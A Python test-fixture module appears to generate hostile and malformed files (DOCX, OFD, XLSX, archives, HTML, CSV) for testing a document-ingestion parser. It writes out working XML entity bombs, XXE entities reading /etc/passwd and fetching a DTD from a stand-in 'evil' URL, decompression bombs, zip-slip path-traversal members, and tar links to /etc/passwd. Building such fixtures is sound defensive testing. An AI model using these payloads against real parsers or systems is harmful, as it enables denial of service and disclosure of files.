"""Files that are made to do harm, and files that chance has broken; all small on disk."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from reportlab.lib import pdfencrypt
from reportlab.pdfgen.canvas import Canvas

from html_pages import table_page
from word_files import make_docx, make_zip, p

TEXT = "临澜市人民政府关于发展观光渔业的意见\n临政发〔2020〕1号\n各县（区）人民政府：\n一、总体目标\n到2025年，新建观光码头12个。（市农业农村局牵头，市财政局配合）\n"
MEGABYTE = 1 << 20
EVIL = "http://127.0.0.1:9/evil"
_ENTITIES = "".join(f'<!ENTITY x{n} "{f"&x{n - 1};" * 12}">' for n in range(1, 12))
XML_BOMB = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x0 "ha">{_ENTITIES}]>'
XML_SQUARE = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "{"ha" * 50_000}">]>'
XML_OUTSIDE = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "{EVIL}.dtd">%y;]>'


def good_docx() -> bytes:
    """A Word file that can be read."""
    return make_docx("".join(p(line) for line in TEXT.splitlines()))


def good_html() -> bytes:
    """A web page that can be read."""
    return table_page(TEXT).encode()


def good_pdf(password: str | None = None) -> bytes:
    """A PDF with a line of text; with a password, locked by it."""
    out = io.BytesIO()
    lock = pdfencrypt.StandardEncryption(password, ownerPassword="owner") if password else None
    canvas = Canvas(out, encrypt=lock, invariant=1)
    canvas.drawString(80, 700, "By 2025 build 12 piers. " * 3)
    canvas.save()
    return out.getvalue()


def ofd(page: str = "", prologue: str = '<?xml version="1.0" encoding="UTF-8"?>', **more: str) -> bytes:
    """An OFD file of one page (GB/T 33190); ``page`` is markup among its text."""
    space = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    text = f'<ofd:TextObject ID="4" Boundary="20 20 160 8" Font="2" Size="5"><ofd:TextCode X="0" Y="5" DeltaX="g 20 5">到2025年，新建观光码头12个。{page}</ofd:TextCode></ofd:TextObject>'
    return make_zip({
        "OFD.xml": f'{prologue}<ofd:OFD {space} Version="1.0" DocType="OFD"><ofd:DocBody><ofd:DocInfo><ofd:DocID>1</ofd:DocID></ofd:DocInfo><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>',
        "Doc_0/Document.xml": f'<ofd:Document {space}><ofd:CommonData><ofd:MaxUnitID>9</ofd:MaxUnitID><ofd:PageArea><ofd:PhysicalBox>0 0 210 297</ofd:PhysicalBox></ofd:PageArea><ofd:PublicRes>PublicRes.xml</ofd:PublicRes></ofd:CommonData><ofd:Pages><ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/></ofd:Pages></ofd:Document>',
        "Doc_0/PublicRes.xml": f'<ofd:Res {space} BaseLoc="Res"><ofd:Fonts><ofd:Font ID="2" FontName="SimSun"/></ofd:Fonts></ofd:Res>',
        "Doc_0/Pages/Page_0/Content.xml": f'{prologue}<ofd:Page {space}><ofd:Content><ofd:Layer ID="3">{text}</ofd:Layer></ofd:Content></ofd:Page>',
        **more,
    })


def sparse(path: Path, head: bytes, size: int) -> None:
    """A file of which only the head takes room on the disk."""
    with open(path, "wb") as file:
        file.write(head)
        os.truncate(file.fileno(), size)


def parquet() -> bytes:
    """A table of texts as Parquet."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    out = io.BytesIO()
    pq.write_table(pa.table({"id": [1, 2], "text": [TEXT, TEXT]}), out)
    return out.getvalue()


def workbook() -> bytes:
    """A table of texts as a workbook."""
    import openpyxl

    book = openpyxl.Workbook()
    book.active.append(["id", "text"])
    book.active.append([1, TEXT])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def packed_tar(members: dict[str, bytes]) -> bytes:
    """A TAR archive."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return packed.getvalue()


def _zeros(megabytes: int) -> bytes:
    return bytes(megabytes * MEGABYTE)


def _flagged(data: bytes) -> bytes:
    """A ZIP archive that says of each of its members that it is encrypted."""
    changed = bytearray(data)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := data.find(mark, at + 1)) >= 0:
            changed[at + offset] |= 1
    return bytes(changed)


def _overlapping(count: int, megabytes: int) -> bytes:
    """A ZIP archive of many members that all mean the same packed bytes."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packed.compress(_zeros(megabytes)) + packed.flush()
    crc, size = zlib.crc32(_zeros(megabytes)), megabytes * MEGABYTE
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 33, crc, len(body), size, 5, 0) + b"0.txt"
    entries = b"".join(
        struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 33, crc, len(body), size, 5, 0, 0, 0, 0, 0, 0) + b"0.txt"
        for _ in range(count)
    )
    names = bytearray(entries)
    for n in range(count):
        names[n * 51 + 46 : n * 51 + 51] = f"{n:05}".encode()
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(entries), len(local) + len(body), 0)
    return local + body + bytes(names) + end


def _nested_bomb(levels: int) -> bytes:
    data = make_zip({"zeros.txt": _zeros(64)})
    for level in range(levels):
        data = make_zip({f"{level}-{n}.zip": data for n in range(8)})
    return data


def _linked_tar() -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE):
            info = tarfile.TarInfo(f"{kind.decode()}.txt")
            info.type, info.linkname = kind, "/etc/passwd"
            archive.addfile(info)
    return packed.getvalue()


def _sparse_tar() -> bytes:
    """A member that says that it holds a terabyte of nothing."""
    info = tarfile.TarInfo("huge.txt")
    info.size = 1 << 40
    return info.tobuf(tarfile.GNU_FORMAT) + bytes(1024)


_SHEET = "xl/worksheets/sheet1.xml"
_CELL = '<c t="inlineStr"><is><t>{}</t></is></c>'
_ROWS = f"<row>{_CELL.format('id')}{_CELL.format('text')}</row><row>{_CELL.format(1)}{_CELL}</row>"
_STRINGS = f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{_ROWS}</sheetData></worksheet>'


def _changed(package: bytes, name: str, content: str) -> bytes:
    """A package with another content of one of its members."""
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        members = {member: archive.read(member) for member in archive.namelist()}
    assert name in members
    return make_zip({**members, name: content})


HOSTILE: dict[str, Callable[[], bytes]] = {
    "xml-bomb.docx": lambda: make_zip({
        "[Content_Types].xml": XML_BOMB + "<a>&x11;</a>", "_rels/.rels": XML_BOMB + "<a>&x11;</a>",
        "word/document.xml": XML_BOMB + "<a>&x11;</a>",
    }),
    "xml-square.docx": lambda: make_zip({"[Content_Types].xml": "<a/>", "word/document.xml": XML_SQUARE + f"<a>{'&x;' * 50_000}</a>"}),
    "outside.docx": lambda: make_zip({"[Content_Types].xml": "<a/>", "word/document.xml": XML_OUTSIDE + "<a>&x;</a>"}),
    "deep.docx": lambda: make_docx("<w:sdt><w:sdtContent>" * 30_000 + p(TEXT) + "</w:sdtContent></w:sdt>" * 30_000),
    "nested-tables.docx": lambda: make_docx("<w:tbl><w:tr><w:tc>" * 5_000 + p(TEXT) + "</w:tc></w:tr></w:tbl>" * 5_000),
    "zip-bomb.docx": lambda: make_zip({"[Content_Types].xml": "<a/>", "word/document.xml": _zeros(300)}),
    "linked.docx": lambda: make_docx(f'<w:p><w:r><w:instrText>INCLUDETEXT "{EVIL}"</w:instrText></w:r></w:p>' + p(TEXT)),
    "xml-bomb.ofd": lambda: ofd("&x11;", XML_BOMB),
    "outside.ofd": lambda: ofd("&x;", XML_OUTSIDE),
    "zip-bomb.ofd": lambda: ofd(**{"Doc_0/Pages/Page_0/Content.xml": _zeros(300).decode()}),
    "escape.ofd": lambda: ofd(**{"OFD.xml": '<OFD><DocBody><DocRoot>../../../../etc/passwd</DocRoot></DocBody></OFD>'}),
    "zip-bomb.zip": lambda: make_zip({"zeros.txt": _zeros(600), "good.txt": TEXT}),
    "nested-bomb.zip": lambda: _nested_bomb(3),
    "overlapping.zip": lambda: _overlapping(2000, 8),
    "itself.gz": lambda: gzip.compress(gzip.compress(gzip.compress(gzip.compress(gzip.compress(TEXT.encode()))))),
    "bomb.txt.gz": lambda: gzip.compress(_zeros(600), 9),
    "bomb.csv.gz": lambda: gzip.compress(b"id,text\n" + b"a" * (400 * MEGABYTE), 9),
    "bomb.tar.gz": lambda: gzip.compress(packed_tar({f"{n}.txt": _zeros(8) for n in range(40)}), 9),
    "bomb.bz2": lambda: bz2.compress(_zeros(200)),
    "bomb.xz": lambda: lzma.compress(_zeros(300)),
    "greedy.xz": lambda: lzma.compress(TEXT.encode(), filters=[{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 30}]),
    "huge.tar": _sparse_tar,
    "links.tar": _linked_tar,
    "climbing.tar": lambda: packed_tar({"../../../../tmp/climbed.txt": TEXT.encode(), "/tmp/climbed.txt": TEXT.encode()}),
    "climbing.zip": lambda: make_zip({"../../../../tmp/climbed.txt": TEXT, "/tmp/climbed.txt": TEXT}),
    "locked.zip": lambda: _flagged(make_zip({"a.txt": TEXT})),
    "locked.docx": lambda: _flagged(good_docx()),
    "locked.pdf": lambda: good_pdf("secret"),
    "sheet-bomb.xlsx": lambda: _changed(workbook(), _SHEET, f"<worksheet><sheetData>{'<row/>' * 5_000_000}</sheetData></worksheet>"),
    "xml-bomb.xlsx": lambda: _changed(workbook(), _SHEET, XML_BOMB + _STRINGS.format("&x11;")),
    "outside.xlsx": lambda: _changed(workbook(), _SHEET, XML_OUTSIDE + _STRINGS.format("&x;")),
    "table.parquet": lambda: parquet()[:-20] + b"PAR1",
    "deep.html": lambda: b"<html><body>" + b"<div>" * 300_000 + TEXT.encode(),
    "deep-tables.html": lambda: b"<html><body>" + b"<table><tr><td>" * 50_000 + TEXT.encode(),
    "attributes.html": lambda: b"<html><body><p " + b" ".join(b"a%d=1" % n for n in range(200_000)) + b">" + TEXT.encode(),
    "outside.html": lambda: f'<html><head><meta http-equiv="refresh" content="0;url={EVIL}"></head><body><iframe src="{EVIL}"></iframe><img src="{EVIL}"><p>{TEXT}</p></body></html>'.encode(),
    "spans.html": lambda: b'<html><body><table><tr><td colspan="999999999" rowspan="999999999">1</td></tr></table>' + TEXT.encode(),
    "quotes.csv": lambda: b'id,text\n1,"' + b"a\n" * (10 * MEGABYTE),
    "deep.jsonl": lambda: b'{"text":' + b"[" * MEGABYTE + b"\n" + b'{"text": "' + TEXT.replace("\n", "\\n").encode() + b'"}\n',
    "lying.txt": good_docx,
    "lying.pdf": good_html,
    "lying.docx": lambda: good_pdf(),
    "lying.html": lambda: make_zip({"a.txt": TEXT}),
    "lying.zip": lambda: TEXT.encode("gb18030"),
    "lying.csv": lambda: bytes(range(256)) * 400,
    "empty.zip": lambda: make_zip({}),
    "empty.docx": lambda: b"",
}
"""Files by their names; every one becomes at least one row of the table ``files``."""

VALID: dict[str, Callable[[], bytes]] = {
    "a.txt": lambda: TEXT.encode("gb18030"), "a.docx": good_docx, "a.html": good_html, "a.pdf": good_pdf, "a.ofd": ofd,
    "a.zip": lambda: make_zip({"a.txt": TEXT, "b.html": good_html()}), "a.tar": lambda: packed_tar({"a.txt": TEXT.encode()}),
    "a.tar.gz": lambda: gzip.compress(packed_tar({"a.txt": TEXT.encode(), "b.txt": TEXT.encode("gb18030")}), mtime=0),
    "a.csv": lambda: f'id,text\n1,"{TEXT}"\n2,"{TEXT}"\n'.encode(), "a.txt.xz": lambda: lzma.compress(TEXT.encode()),
    "a.jsonl": lambda: b'{"text": "a"}\n' * 5, "a.xlsx": workbook, "a.parquet": parquet,
}
"""Files that can be read, to be broken."""
